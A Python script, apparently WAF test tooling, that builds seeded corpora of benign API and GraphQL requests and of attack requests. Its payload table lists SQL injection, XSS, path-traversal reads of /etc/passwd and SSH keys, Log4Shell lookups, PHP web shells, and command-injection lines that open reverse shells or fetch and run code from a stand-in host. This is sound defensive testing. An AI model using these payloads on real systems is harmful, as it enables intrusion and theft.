"""Writes benign_api.jsonl and attacks.jsonl: the WAF's API corpora (see README.md).

    .venv/bin/python tests/waf/corpus/make_corpus.py   # rewrites both files

Every request is built here from hand-written parts (names, words, templates,
payloads) with a seeded random generator, so the files are the same on every
run; tests/waf/test_api_profile.py checks that they still are.

A line is one request: {"id", "kind", "route", "method", "target", "headers",
"body"} and, for an attack, "category", "place" and "payload". "route" is
"api" (a JSON API route) or "graphql" (a route whose JSON field `query`
holds GraphQL documents). Headers are the request's own; the sender adds
Host, Accept and Content-Length. Bodies are text (UTF-8).
"""

from __future__ import annotations

import json
import random
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

HERE = Path(__file__).resolve().parent
JSON = "application/json"
FORM = "application/x-www-form-urlencoded"

# What API clients send as User-Agent: mobile apps, HTTP libraries, browsers.
USER_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "acme-ios/5.2.1 (iPhone; iOS 17.2; Scale/3.00)",
    "acme-android/5.2.0 (Linux; Android 14; Pixel 8)",
    "okhttp/4.12.0",
    "axios/1.6.2",
    "Go-http-client/2.0",
    "python-requests/2.31.0",
    "curl/8.4.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Dart/3.2 (dart:io)",
)  # fmt: skip

FIRST = (
    "Jürgen", "Zoë", "Łukasz", "Søren", "François", "José", "Seán", "Siobhán", "Björn", "Ana",
    "María José", "Chloé", "Noémie", "Dvořák", "Ingrid", "Mehmet", "Ayşe", "Nguyễn", "Thảo",
    "Иван", "Ольга", "Дмитрий", "Анастасия", "Олександр", "Γιώργος", "Ελένη", "Νίκος",
    "太郎", "花子", "美咲", "伟", "秀英", "민준", "서연", "محمد", "فاطمة", "יעל", "אבי",
    "राहुल", "प्रिया", "สมชาย", "Kwame", "Ngozi", "O'Brien", "D'Arcy", "Mary-Kate", "Jean-Luc",
)  # fmt: skip
LAST = (
    "Müller", "Schäfer", "Wąsik", "Kowalczyk", "Jørgensen", "Lefèvre", "Núñez", "García Márquez",
    "O'Connor", "Ní Bhriain", "Åström", "Novák", "Yılmaz", "Văn An", "Иванов", "Петрова",  # noqa: RUF001
    "Шевченко", "Παπαδόπουλος", "Κωνσταντίνου", "山田", "佐藤", "王", "李", "김", "박",
    "العلي", "الحسن", "כהן", "शर्मा", "ศรีสุข", "Mensah", "Okafor", "van der Berg", "de la Cruz",
    "Smith-Jones", "McAllister", "d'Alembert",
)  # fmt: skip
CITIES = (
    "München", "Kraków", "København", "Zürich", "São Paulo", "Reykjavík", "İstanbul", "Москва",
    "Київ", "Αθήνα", "東京", "서울", "القاهرة", "תל אביב", "Hà Nội", "Montréal", "Dublin",
    "Cork", "New York", "San José", "Köln", "Łódź", "Málaga", "Göteborg",
)  # fmt: skip
GREETINGS = ("Hallo", "Привет", "こんにちは", "مرحبا", "Γεια", "안녕하세요", "Cześć", "Olá")
# Mostly ordinary street names; some share a word with SQL (Union Street,
# Grant Avenue, the Insert Road), as real ones do.
STREET_WORDS = (
    "Church", "Mill", "Station", "Market", "King", "Queen", "Bridge", "Chapel", "High", "Park",
    "Main", "Oak", "Elm", "Water", "Grove", "Victoria", "Albert", "Lincoln", "Washington",
    "Union", "Grant", "Insert", "Select", "Commerce", "Exchange", "Case", "Temple", "Orchard",
)  # fmt: skip
STREET_KINDS = ("Road", "Street", "St.", "Avenue", "Ave", "Lane", "Close", "Way", "Place", "Rd")
UNITS = ("Unit {a}/{b}", "Apt {a}", "Flat {a}/{b}", "Suite {a}", "#{a}", "Level {b}, Unit {a}")

# Shop and app vocabulary for generated search phrases and tags.
WORDS = (
    "chair", "table", "lamp", "coat", "winter", "summer", "sale", "linen", "shirt", "kids",
    "shoes", "size", "blue", "red", "phone", "case", "cable", "charger", "book", "guide",
    "python", "java", "rust", "go", "c++", "c#", "node.js", "react", "vue", "sql", "desk",
    "oak", "walnut", "garden", "hose", "kettle", "tea", "coffee", "beans", "mug", "usb-c",
    "laptop", "stand", "monitor", "27\"", "4k", "wireless", "mouse", "keyboard", "for", "with",
    "under", "best", "cheap", "new", "2024", "gift", "men", "women", "vegan", "organic",
)  # fmt: skip
SEARCH_PHRASES = (
    "select comfort mattress", "union square hotels", "drop shipping suppliers",
    "how to update from 1.2 to 1.3", "rock & roll t-shirts", "c++ tutorial for beginners",
    "50% off winter coats", "O'Reilly books on python", "café near me", "insert coin arcade",
    "order by date", "group by city", "where is my order?", "delete my account",
    "drop-in daycare", "table for two tonight", "tables and chairs", "select all that apply",
    "javascript: the good parts", "script writing course", "alert me when back in stock",
    "echo dot 5th gen", "cat food 10kg", "system design interview", "import duties eu",
    "shell oil prices", "exec chair ergonomic", "sleep tracker ring", "wait times at the dmv",
    "1 or 2 bedroom apartments", "a/b testing tools", "<3 emoji meaning", "5' 10\" in cm",
    "what does 'idempotent' mean", "best laptop < $1000", "rates > 5%", "100% cotton sheets",
    "tom & jerry dvd", "harry potter #1", "c:\\ drive full windows 11", "path of exile 2",
    "nginx vs apache", "my-app.config.json", "regex for email", "sql injection prevention",
    "how to select a union rep", "update firmware router", "insert date in excel",
    "Jürgen Klopp", "Zoë Kravitz", "Москва погода", "東京 ラーメン", "서울 맛집", "القاهرة",
    "naïve bayes", "crème brûlée recipe", "piñata", "smörgåsbord", "fußball", "pokémon cards",
    "emoji 🎉 party", "👍", "😀 vs 🙂", "size 10 1/2 shoes", "1/2 inch drill bit",
    "dr. who season 3", "mr. & mrs. smith", "at&t store", "q&a session", "b2b saas pricing",
)  # fmt: skip

MARKDOWN_LINES = (
    "- [x] write tests", "- [ ] ship it", "- [ ] update the changelog", "- [x] review PR #1234",
    "## What changed", "### Steps to reproduce", "1. Open the settings page",
    "2. Click **Save**", "3. See the error", "> quoted reply from @jane", "**Bold** and _italic_",
    "See [the docs](https://docs.example.com/guide#setup) for details.",
    "![screenshot](https://cdn.example.com/img/shot-01.png)", "`npm install --save-dev jest`",
    "Use `Array.prototype.map()` here.", "| col | value |", "|-----|-------|", "| a | 1 |",
    "--- ", "Thanks! :tada:", "cc @ops-team", "Fixes #42", "Closes #77, #78",
    "Run `make test` before pushing.", "The `select` dropdown is cut off on mobile.",
    "Deleting a row from the table updates the total.", "Order of columns: name, email, role.",
    "<details><summary>Logs</summary>\n\n```\nERROR timeout after 30s\n```\n</details>",
    "```js\nconst total = items.reduce((sum, i) => sum + i.price, 0);\n```",
    "```python\nfor user in users:\n    print(user.name)\n```",
    "```json\n{\"retry\": 3, \"backoff\": \"exponential\"}\n```",
    "*Note*: the API returns `404` when the id is unknown.",
    "Ping me if you need anything :)", "LGTM 👍", "+1, same here on Android 14",
    "The page shows <b>bold</b> text instead of the formatted text.",
    "Step 2 -> step 3 takes ~5 minutes.", "a < b and b > c, so a < c",
    "Version 2.3.1 (build 4512) - released 2024-03-01", "Price: $19.99 (was $24.99)",
    "~~old text~~ new text", "Email me at jane.doe@example.com",
    "The import/export page is at /settings/data.", "Key combo: Ctrl+Shift+P",
)  # fmt: skip

GRAPHQL_DOCS = (
    "query GetUser($id: ID!) {{ user(id: $id) {{ name email avatarUrl }} }}",
    "query GetUser($id: ID!) {{ user(id: $id) {{ name email posts(first: 10) {{ edges {{ node "
    "{{ title publishedAt }} }} }} }} }}",
    "query {{ viewer {{ login repositories(first: {n}, orderBy: {{field: UPDATED_AT, direction: "
    "DESC}}) {{ nodes {{ name updatedAt }} }} }} }}",
    "mutation CreatePost($input: CreatePostInput!) {{ createPost(input: $input) {{ post {{ id "
    "title }} errors {{ field message }} }} }}",
    "mutation {{ updateSettings(theme: DARK, locale: \"{locale}\") {{ ok }} }}",
    "query Search($q: String!, $after: String) {{ search(query: $q, first: 20, after: $after) "
    "{{ pageInfo {{ hasNextPage endCursor }} nodes {{ ... on Product {{ id name price }} ... on "
    "Article {{ id title }} }} }} }}",
    "fragment userFields on User {{ id name email }}\nquery Team($slug: String!) {{ team(slug: "
    "$slug) {{ members {{ ...userFields }} owner {{ ...userFields }} }} }}",
    "query Feed($withComments: Boolean!) {{ feed(limit: {n}) {{ id text comments "
    "@include(if: $withComments) {{ id body author {{ name }} }} }} }}",
    "# fetch the cart\nquery Cart {{ cart {{ items {{ sku quantity product {{ name price(currency: "
    "EUR) }} }} total }} }}",
    "mutation AddToCart($sku: String!, $qty: Int = 1) {{ addToCart(sku: $sku, quantity: $qty) "
    "{{ cart {{ id itemCount }} }} }}",
    "query {{ orders(filter: {{status: OPEN, createdAfter: \"2024-01-01\"}}, first: {n}) {{ "
    "totalCount nodes {{ id total status }} }} }}",
    "subscription OnMessage($room: ID!) {{ messageAdded(roomId: $room) {{ id text sender {{ "
    "name }} }} }}",
    "query IntrospectionLite {{ __type(name: \"User\") {{ fields {{ name type {{ name }} }} }} }}",
    "query A {{ a: user(id: \"{n}\") {{ name }} b: user(id: \"{m}\") {{ name }} }}",
    "mutation DeleteComment($id: ID!) {{ deleteComment(id: $id) {{ ok }} }}",
    "query Select($where: UserWhere) {{ users(where: $where, orderBy: {{name: ASC}}) {{ id name "
    "}} }}",
    "mutation {{ insertTodo(objects: {{title: \"{title}\", done: false}}) {{ affected_rows }} }}",
    "query {{ node(id: \"VXNlcjox{n}\") {{ id ... on User {{ name }} }} }}",
)  # fmt: skip
TODO_TITLES = (
    "buy milk", "write tests", "call the plumber", "update the docs", "select a venue",
    "drop off the parcel", "order new chairs", "plan the union meeting", "renew passport",
)  # fmt: skip

PATHS_GET = (
    "/api/users/{n}", "/api/orders/{n}", "/api/orders/{n}/items", "/api/products/{sku}",
    "/api/v2/accounts/{n}/invoices", "/api/teams/{slug}/members", "/api/files/{uuid}",
    "/api/notifications", "/api/me", "/api/health",
)  # fmt: skip
SKUS = ("A-1", "B-22", "SKU-10023", "TSHIRT-RED-XL", "mug_blue", "BK/2024/017")
SLUGS = ("platform", "data-eng", "mobile", "growth", "ops", "design-system")

# -- attacks ---------------------------------------------------------------------------
# Written in the style of public payload lists (OWASP testing guide and cheat
# sheets, PayloadsAllTheThings, SecLists' fuzzing lists): classic forms and
# their common evasions, typed here rather than copied.
PAYLOADS: dict[str, tuple[str, ...]] = {
    "sqli": (
        "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "admin'--", "1' ORDER BY 3--",
        "1 UNION SELECT NULL,NULL,NULL--", "' UNION SELECT username, password FROM users--",
        "1; DROP TABLE users--", "1' AND SLEEP(5)--", "1 AND 1=CONVERT(int,@@version)--",
        "'; EXEC xp_cmdshell('dir')--", "1' AND extractvalue(1,concat(0x7e,version()))--",
        "' OR 'x'='x' /*", "1)) OR ((1=1", "-1' UNION ALL SELECT table_name FROM "
        "information_schema.tables--", "1' WAITFOR DELAY '0:0:5'--",
        "' AND 1=(SELECT COUNT(*) FROM tabname); --", "1 OR pg_sleep(5)--",
        "'/**/OR/**/1=1#", "1' GROUP BY 1,2,3 HAVING 1=1--", "' or benchmark(1000000,md5(1))#",
        "x' AND ascii(substring((select password from users limit 1),1,1))>64--",
    ),
    "xss": (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "\"><script>alert(document.cookie)</script>", "javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<body onload=alert('x')>",
        "<a href=\"javascript:alert(1)\">click</a>", "<div style=\"background:url(javascript:"
        "alert(1))\">", "<details open ontoggle=alert(1)>", "<math><mtext><table><mglyph><style>"
        "<img src=x onerror=alert(1)>", "'-alert(1)-'", "<ScRiPt>prompt(1)</sCrIpT>",
        "<input autofocus onfocus=alert(1)>", "<object data=\"data:text/html;base64,"
        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<embed src=javascript:alert(1)>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "<video><source onerror=\"alert(1)\">",
        "<marquee onstart=alert(1)>", "\"onmouseover=\"alert(1)",
    ),
    "lfi": (
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//etc/passwd",
        "/etc/shadow", "..\\..\\..\\windows\\win.ini", "/proc/self/environ",
        "../../../../../../boot.ini", "/var/log/apache2/access.log", "file:///etc/passwd",
        "..%252f..%252f..%252fetc%252fpasswd", "/home/user/.ssh/id_rsa", "../.env",
        "php://filter/convert.base64-encode/resource=index.php", "C:\\Windows\\System32\\"
        "drivers\\etc\\hosts",
    ),
    "rfi": (
        "http://198.18.5.5/shell.txt?", "https://evil.example/x.php?", "ftp://198.18.5.5/a.txt",
        "http://198.18.5.5/inc.php%00", "http://198.18.5.5:8080/cmd.txt??",
    ),
    "rce": (
        "; cat /etc/passwd", "| id", "&& whoami", "`id`", "$(whoami)", "; ls -la /",
        "127.0.0.1; nc -e /bin/sh 198.18.5.5 4444", "| curl http://198.18.5.5/x.sh | sh",
        "; wget http://198.18.5.5/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
        "${IFS}cat${IFS}/etc/passwd",
        "; bash -i >& /dev/tcp/198.18.5.5/4444 0>&1", "|| ping -c 10 127.0.0.1",
        "; python -c 'import os;os.system(\"id\")'", "() { :;}; /bin/bash -c 'id'",
        "powershell -enc SQBFAFgA", "cmd.exe /c dir", "; echo $PATH",
    ),
    "php": (
        "<?php system($_GET['c']); ?>", "<?= `id` ?>", "php://input", "phpinfo();",
        "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "assert($_POST['x'])",
        "base64_decode('cGhwaW5mbygpOw==')", "$_SERVER['HTTP_HOST']", "eval($_REQUEST[1]);",
        "file_get_contents('/etc/passwd')",
    ),
    "java": (
        "${jndi:ldap://198.18.5.5:1389/a}", "${jndi:rmi://198.18.5.5/x}",
        "${${lower:j}ndi:ldap://198.18.5.5/a}", "java.lang.Runtime.getRuntime().exec('id')",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
    ),
    "nodejs": (
        "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
        "require('child_process').exec('id')", "process.mainModule.require('fs')",
        "{\"__proto__\":{\"admin\":true}}", "new Function('return process')()",
    ),
}  # fmt: skip
# Where an attack goes; each payload is sent in several of these.
API_PLACES = (
    "query",
    "json-value",
    "json-nested",
    "json-array",
    "json-key",
    "form",
    "cookie",
    "json-nested-key",
)
GRAPHQL_PLACES = ("graphql-variable", "graphql-literal")


def _json(value: object) -> str:
    return json.dumps(value, ensure_ascii=False)


def _request(
    kind: str,
    method: str,
    target: str,
    body: str = "",
    content_type: str = "",
    route: str = "api",
    user_agent: str = USER_AGENTS[0],
    headers: tuple[tuple[str, str], ...] = (),
) -> dict[str, Any]:
    all_headers = [["User-Agent", user_agent]]
    if content_type:
        all_headers.append(["Content-Type", content_type])
    all_headers += [list(pair) for pair in headers]
    return {
        "kind": kind,
        "route": route,
        "method": method,
        "target": target,
        "headers": all_headers,
        "body": body,
    }


class Benign:
    """Benign API requests of the kinds issue 17 names, built from the parts above."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def ua(self) -> str:
        return self.rng.choice(USER_AGENTS)

    def name(self) -> str:
        return f"{self.rng.choice(FIRST)} {self.rng.choice(LAST)}"

    def address(self) -> dict[str, str]:
        rng = self.rng
        unit = rng.choice(UNITS).format(a=rng.randint(1, 40), b=rng.randint(1, 12))
        line1 = f"{rng.randint(1, 220)} {rng.choice(STREET_WORDS)} {rng.choice(STREET_KINDS)}"
        return {
            "line1": rng.choice((f"{line1}, {unit}", line1, f"{unit}, {line1}")),
            "line2": rng.choice(("", "c/o " + self.name(), "Building B", "Floor 3 & 4")),
            "city": rng.choice(CITIES),
            "postal_code": rng.choice(("80331", "SW1A 1AA", "10001", "D02 X285", "100-0001")),
            "country": rng.choice(("DE", "GB", "US", "IE", "JP", "PL", "UA", "BR")),
        }

    def url(self) -> str:
        rng = self.rng
        host = rng.choice(
            (
                "hooks.example.com",
                "cdn.example.net",
                "app.example.org",
                "example.com",
                "api.partner.example",
                "files.example.com:8443",
                "sub.domain.example.co.uk",
            )
        )
        path = rng.choice(
            (
                "/webhooks/orders",
                "/avatars/u/{n}.png",
                "/callback",
                "/a/b/c?x=1&y=2",
                "/docs/guide#setup",
                "/img/{n}/thumb.jpg?size=64",
                "/v1/events?source=stockade",
                "/oauth2/redirect?state=af0ifjsldkj&nonce=n-0S6",
                "/index.html",
                "/",
            )
        ).format(n=rng.randint(1, 99999))
        return f"{rng.choice(('https', 'https', 'http'))}://{host}{path}"

    def markdown(self) -> str:
        return "\n".join(self.rng.sample(MARKDOWN_LINES, self.rng.randint(2, 6)))

    def nested(self) -> Iterator[dict[str, Any]]:
        rng = self.rng
        for i in range(150):
            shape = i % 6
            if shape == 0:
                body = {
                    "profile": {
                        "bio": rng.choice(
                            (
                                "hi",
                                "Backend dev. Coffee & cats.",
                                "Ich liebe Berge",
                                "she/her",
                                "Runner, reader, 🍕 lover",
                            )
                        ),
                        "display_name": self.name(),
                        "settings": {
                            "theme": rng.choice(("dark", "light")),
                            "notifications": {"email": True, "push": False},
                        },
                    }
                }
                target = f"/api/users/{rng.randint(1, 9999)}"
                method = "PATCH"
            elif shape == 1:
                body = {
                    "order": {
                        "customer": {"id": rng.randint(1, 10**6), "name": self.name()},
                        "items": [
                            {
                                "sku": rng.choice(SKUS),
                                "qty": rng.randint(1, 5),
                                "price": round(rng.uniform(1, 200), 2),
                            }
                            for _ in range(rng.randint(1, 4))
                        ],
                        "shipping": {"address": self.address(), "method": "express"},
                        "notes": rng.choice(
                            (
                                "",
                                "Leave at the door; ring twice.",
                                "Gift - please no invoice in the box!",
                            )
                        ),
                    }
                }
                target, method = "/api/orders", "POST"
            elif shape == 2:
                body = {
                    "events": [
                        {
                            "type": rng.choice(("click", "view", "scroll", "purchase")),
                            "ts": f"2024-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}T10:1"
                            f"{rng.randint(0, 9)}:00.000Z",
                            "props": {
                                "page": rng.choice(("/home", "/cart", "/p/123")),
                                "x": rng.randint(0, 1920),
                                "y": rng.randint(0, 1080),
                            },
                        }
                        for _ in range(rng.randint(1, 6))
                    ],
                    "context": {
                        "app": {"version": "5.2.1", "build": "4512"},
                        "device": {"os": "iOS 17.2", "model": "iPhone15,3"},
                    },
                }
                target, method = "/api/events", "POST"
            elif shape == 3:
                body = {
                    "settings": {
                        "locale": rng.choice(("de-DE", "en-GB", "pl-PL", "ja-JP", "uk-UA")),
                        "timezone": rng.choice(("Europe/Berlin", "America/New_York", "Asia/Tokyo")),
                        "features": {"beta": rng.random() < 0.5, "new_checkout": True},
                        "limits": {"max_items": rng.randint(10, 100), "rate": "100/min"},
                        "profile": {"visibility": "team"},
                    }
                }
                target, method = f"/api/accounts/{rng.randint(1, 500)}/settings", "PUT"
            elif shape == 4:
                body = {
                    "ticket": {
                        "subject": rng.choice(
                            (
                                "Export fails",
                                "Can't log in",
                                "Billing question",
                                "Feature request: dark mode",
                            )
                        ),
                        "description": rng.choice(
                            (
                                "When I select all rows and update the report, the export drops "
                                "the last column.",
                                "Login works on web but not on the app (v5.2.1).",
                                "I was charged twice for order #1042 - please refund one.",
                                "Please add a way to group orders by city and sort by date.",
                            )
                        ),
                        "requester": {"name": self.name(), "email": "jane.doe@example.com"},
                        "tags": rng.sample(["billing", "export", "mobile", "ux", "p2"], 2),
                    }
                }
                target, method = "/api/tickets", "POST"
            else:
                body = {
                    "product": {
                        "name": rng.choice(
                            (
                                "Linen shirt",
                                "Chair (oak)",
                                "USB-C cable 2m",
                                "Table lamp",
                                "Kids' winter coat",
                            )
                        ),
                        "sku": rng.choice(SKUS),
                        "price": {"amount": rng.randint(100, 99999), "currency": "EUR"},
                        "attributes": {
                            "color": rng.choice(("red", "blue", "oak")),
                            "size": rng.choice(("S", "M", "XL", "10 1/2")),
                        },
                        "tags": rng.sample(list(WORDS), 3),
                    }
                }
                target, method = "/api/products", "POST"
            yield _request("json-nested", method, target, _json(body), JSON, user_agent=self.ua())

    def unicode(self) -> Iterator[dict[str, Any]]:
        rng = self.rng
        for i in range(90):
            if i % 3 == 0:
                body: dict[str, Any] = {"name": self.name()}
            elif i % 3 == 1:
                body = {
                    "first_name": rng.choice(FIRST),
                    "last_name": rng.choice(LAST),
                    "city": rng.choice(CITIES),
                }
            else:
                greeting = rng.choice(GREETINGS)
                emoji = rng.choice(("🎉", "👍", "❤️", "😀", ""))
                body = {
                    "message": {
                        "text": f"{greeting} {self.name()}! {emoji}",
                        "to": {"name": self.name()},
                    }
                }
            ascii_only = i % 5 == 0  # some clients escape non-ASCII as \uXXXX
            text = json.dumps(body, ensure_ascii=ascii_only)
            yield _request("unicode", "POST", "/api/contacts", text, JSON, user_agent=self.ua())

    def urls(self) -> Iterator[dict[str, Any]]:
        for i in range(80):
            shape = i % 4
            if shape == 0:
                body: dict[str, Any] = {"webhook": {"url": self.url(), "events": ["order.paid"]}}
            elif shape == 1:
                body = {"profile": {"avatar_url": self.url(), "website": self.url()}}
            elif shape == 2:
                body = {"links": [{"title": "Docs", "href": self.url()} for _ in range(3)]}
            else:
                body = {
                    "client": {"redirect_uris": [self.url(), self.url()], "logo_uri": self.url()}
                }
            if i % 5 == 4:  # and as query parameters
                target = "/oauth/authorize?" + urlencode(
                    {"client_id": "app-123", "redirect_uri": self.url(), "state": "xyz"},
                    quote_via=quote,
                )
                yield _request("url", "GET", target, user_agent=self.ua())
                continue
            yield _request(
                "url", "POST", "/api/integrations", _json(body), JSON, user_agent=self.ua()
            )

    def graphql(self) -> Iterator[dict[str, Any]]:
        rng = self.rng
        for i in range(90):
            document = GRAPHQL_DOCS[i % len(GRAPHQL_DOCS)].format(
                n=rng.randint(1, 100),
                m=rng.randint(1, 100),
                locale=rng.choice(("de-DE", "en-GB")),
                title=rng.choice(TODO_TITLES),
            )
            variables: dict[str, Any] = rng.choice(
                (
                    {"id": str(rng.randint(1, 10**6))},
                    {"q": rng.choice(SEARCH_PHRASES), "after": None},
                    {"input": {"title": rng.choice(TODO_TITLES), "body": self.markdown()}},
                    {"slug": rng.choice(SLUGS)},
                    {"withComments": True},
                    {"sku": rng.choice(SKUS), "qty": 2},
                    {"where": {"name": {"_ilike": "%" + rng.choice(LAST) + "%"}}},
                    {},
                )
            )
            body: dict[str, Any] = {"query": document, "variables": variables}
            if i % 3 == 0:
                body["operationName"] = None
            yield _request(
                "graphql",
                "POST",
                "/graphql",
                _json(body),
                JSON,
                route="graphql",
                user_agent=self.ua(),
            )

    def markdowns(self) -> Iterator[dict[str, Any]]:
        rng = self.rng
        for i in range(100):
            if i % 2:
                body: dict[str, Any] = {
                    "comment": {"body": self.markdown(), "author": {"name": self.name()}}
                }
                target = f"/api/issues/{rng.randint(1, 5000)}/comments"
            else:
                body = {
                    "title": rng.choice(
                        (
                            "Release notes 2.3",
                            "Sprint 14 tasks",
                            "Bug: export drops a column",
                            "Onboarding",
                        )
                    ),
                    "body": self.markdown(),
                    "labels": ["docs"],
                }
                target = "/api/issues"
            yield _request("markdown", "POST", target, _json(body), JSON, user_agent=self.ua())

    def searches(self) -> Iterator[dict[str, Any]]:
        rng = self.rng
        for i in range(110):
            phrase = SEARCH_PHRASES[i % len(SEARCH_PHRASES)]
            if i >= len(SEARCH_PHRASES):
                phrase = " ".join(rng.sample(WORDS, rng.randint(2, 4)))
            if i % 4 == 3:  # a search box that POSTs JSON
                body = {"query": {"text": phrase, "filters": {"in_stock": True}}, "page": 1}
                yield _request(
                    "search", "POST", "/api/search", _json(body), JSON, user_agent=self.ua()
                )
                continue
            target = "/api/search?" + urlencode(
                {
                    "q": phrase,
                    "page": rng.randint(1, 9),
                    "sort": rng.choice(("relevance", "-price")),
                },
                quote_via=quote,
            )
            yield _request("search", "GET", target, user_agent=self.ua())

    def addresses(self) -> Iterator[dict[str, Any]]:
        for i in range(60):
            body: dict[str, Any] = {"address": self.address(), "name": self.name()}
            if i % 3 == 0:
                body = {
                    "billing": {"address": self.address()},
                    "shipping": {"address": self.address()},
                }
            yield _request(
                "address",
                "PUT",
                f"/api/users/{i + 1}/address",
                _json(body),
                JSON,
                user_agent=self.ua(),
            )

    def plain(self) -> Iterator[dict[str, Any]]:
        rng = self.rng
        for i in range(50):
            path = PATHS_GET[i % len(PATHS_GET)].format(
                n=rng.randint(1, 10**6),
                sku=rng.choice(SKUS),
                slug=rng.choice(SLUGS),
                uuid="3f2b1c9e-8d4a-4c7b-9e1f-2a6b5c4d3e2f",
            )
            query = rng.choice(
                (
                    "",
                    "?page=2&per_page=50",
                    "?sort=-created_at&filter%5Bstatus%5D=open",
                    "?fields=id,name,email&include=team",
                    "?since=2024-01-01T00:00:00Z",
                    "?cursor=eyJpZCI6MTIzNH0%3D&limit=20",
                    "?expand=items.product",
                )
            )
            method = "DELETE" if i % 10 == 9 else "GET"
            yield _request(
                "plain",
                method,
                path + query,
                user_agent=self.ua(),
                headers=(
                    (
                        "Authorization",
                        "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
                    ),
                ),
            )

    def all(self) -> list[dict[str, Any]]:
        out = [
            *self.nested(),
            *self.unicode(),
            *self.urls(),
            *self.graphql(),
            *self.markdowns(),
            *self.searches(),
            *self.addresses(),
            *self.plain(),
        ]
        for number, request in enumerate(out, 1):
            request["id"] = f"b{number:04d}"
        return out


# The places an attack goes. Each passes plain crs PL1 with a benign value in
# it (tests/waf/test_api_profile.py checks this), so what plain CRS blocks
# there is the payload, not the place: a key the engine flags by its path
# (`profile`) or a GraphQL document whose syntax trips it (`{ id`) would
# count its false positive as a detection.
GRAPHQL_VARIABLE_QUERY = "query Search($q: String!) { products(search: $q) { title price } }"
GRAPHQL_LITERAL_QUERY = "query {{ products(search: {literal}) {{ title price }} }}"


def attack(place: str, payload: str) -> dict[str, Any]:
    """A request with `payload` in `place` (API_PLACES, GRAPHQL_PLACES)."""
    body: Any
    if place == "graphql-variable":
        body = {"query": GRAPHQL_VARIABLE_QUERY, "variables": {"q": payload}}
        return _request("attack", "POST", "/graphql", _json(body), JSON, route="graphql")
    if place == "graphql-literal":  # a GraphQL string literal escapes as JSON does
        body = {"query": GRAPHQL_LITERAL_QUERY.format(literal=json.dumps(payload))}
        return _request("attack", "POST", "/graphql", _json(body), JSON, route="graphql")
    if place == "query":
        target = "/api/search?" + urlencode({"q": payload}, quote_via=quote)
        return _request("attack", "GET", target)
    if place == "form":
        return _request("attack", "POST", "/api/comments", urlencode({"comment": payload}), FORM)
    if place == "cookie":
        return _request(
            "attack",
            "GET",
            "/api/me",
            headers=(("Cookie", f"session=9f8e7d6c; pref={quote(payload)}"),),
        )
    if place == "json-value":
        body = {"comment": payload}
    elif place == "json-nested":
        body = {"data": {"attributes": {"name": payload}}}
    elif place == "json-array":
        body = {"tags": ["a", payload]}
    elif place == "json-key":
        body = {payload: "1"}
    elif place == "json-nested-key":  # an attack in a key below the top
        body = {"filters": {payload: {"eq": 1}}}
    else:
        raise ValueError(f"unknown place {place!r}")
    return _request("attack", "POST", "/api/items", _json(body), JSON)


def attacks() -> list[dict[str, Any]]:
    out = []
    for category, payloads in PAYLOADS.items():
        for number, payload in enumerate(payloads):
            # each payload in four API places and one GraphQL place, rotating
            places = [API_PLACES[(number + k) % len(API_PLACES)] for k in range(0, 8, 2)]
            places.append(GRAPHQL_PLACES[number % 2])
            for place in places:
                request = attack(place, payload)
                request.update(category=category, place=place, payload=payload)
                out.append(request)
    for number, request in enumerate(out, 1):
        request["id"] = f"a{number:04d}"
    return out


def write(path: Path, requests: list[dict[str, Any]]) -> None:
    text = "".join(json.dumps(r, ensure_ascii=False, sort_keys=True) + "\n" for r in requests)
    path.write_text(text, encoding="utf-8")


def build() -> dict[str, list[dict[str, Any]]]:
    return {"benign_api.jsonl": Benign(17).all(), "attacks.jsonl": attacks()}


def main() -> int:
    for name, requests in build().items():
        write(HERE / name, requests)
        print(f"{name}: {len(requests)} requests", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
